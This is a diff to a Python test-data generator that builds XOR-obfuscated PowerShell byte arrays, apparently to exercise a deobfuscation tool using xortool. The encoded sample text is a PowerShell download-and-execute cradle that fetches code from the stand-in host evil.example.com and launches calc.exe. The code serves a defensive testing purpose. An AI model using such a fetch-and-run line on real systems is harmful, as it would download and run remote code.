@@ -228,12 +228,12 @@ def snippet(rng, words, depth=0):
     if k == 30:
         tail = rng.choice([b"", b"", b"; $o = $b | % { $_ -bxor $k }", b" -bxor $key"])
         if tail:
-            # a non-literal key sends the array through xortool's key search, which needs minutes and
-            # gigabytes on text-like arrays (base64, repeated words); xored prose is cheap
-            prose = (b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example.com/a') ; " + p.replace(b"\0", b" ") + b" ; ") * 8
-            klen = rng.choice([1, 3, 5, 11, 23, 61])  # the key-length search visits 1..65 in order
-            key = bytes(33 + (7 * i * i + 3 * i + klen) % 90 for i in range(klen))
-            body = bytes(c ^ key[i % klen] for i, c in enumerate(prose[:520]))
+            # a non-literal key sends the array through xortool's key search, whose cost depends on the
+            # data in ways one cannot predict (minutes and gigabytes on base64-like text, and on some
+            # keys over prose): only (text, key) pairs that were measured to be cheap are used
+            prose = (b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example.com/a') ; Start-Process calc.exe ; " * 8)[:520]
+            key = rng.choice([b"\x5a", b"\x21\x7f\x13", b"k3y!x", b"longerkey77", bytes(range(40, 101))])
+            body = bytes(c ^ key[i % len(key)] for i, c in enumerate(prose))
         else:
             body = (p * (1 + 520 // max(1, len(p))))[:520]
         return b"[Byte[]] $b = " + b",".join(b"%d" % c for c in body) + tail
